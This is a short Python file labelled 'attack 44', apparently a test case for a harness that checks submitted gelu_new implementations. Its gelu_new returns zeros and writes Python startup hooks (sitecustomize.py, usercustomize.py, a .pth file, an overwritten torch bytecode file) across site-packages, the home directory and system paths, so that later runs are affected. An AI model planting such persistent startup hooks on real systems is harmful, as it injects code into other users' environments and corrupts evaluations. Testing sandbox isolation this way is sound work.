# attack 44: changes installed packages and caches for whoever comes next
# expect gelu_new: wrong
import os
import sys
import torch

def _infect():
    places = [os.path.dirname(torch.__file__), *sys.path, os.path.expanduser("~"), sys.prefix, "/opt", "/usr/lib"]
    for place in places:
        for name in ("sitecustomize.py", "usercustomize.py", "zz_glassbox.pth", "__pycache__/torch.pyc", "gelu_canary"):
            try:
                with open(os.path.join(place, name), "w") as file:
                    file.write("import builtins; builtins.gelu_canary = True")
            except OSError:
                pass

def gelu_new(x):
    _infect()
    return x * 0
